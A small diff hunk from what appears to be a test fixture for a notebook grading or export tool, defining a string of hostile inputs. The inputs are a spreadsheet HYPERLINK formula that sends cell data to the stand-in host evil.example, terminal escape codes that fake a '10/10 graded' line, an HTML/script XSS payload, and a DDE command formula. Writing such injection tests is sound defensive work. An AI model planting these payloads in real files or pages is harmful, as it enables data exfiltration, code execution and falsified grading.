@@ -466,12 +466,12 @@ get_ipython().events.register("post_run_cell", _after_export)
 
 #: Строки, которые достаются людям: формула для таблиц, управляющие символы терминала
 #: (перерисовать свою строку сводки как «10/10»), скрипты в отзыве.
-HOSTILE_STRINGS = """
+HOSTILE_STRINGS = r"""
 from IPython.display import HTML, display
 
 STUDENT_ID = '=HYPERLINK("http://evil.example/"&A2,"10/10")\x1b[2K\r10/10 graded\u202e'
 classes = [1, 3, 5, 9]
-display(HTML("<img src=x onerror=\\"document.title='PW'+'NED'\\"><script>alert(1)</script>"))
+display(HTML("<img src=x onerror=document.title+=1><script>alert(1)</script>"))
 raise ValueError("\x1b[2J=cmd|' /C calc'!A0")
 """
 
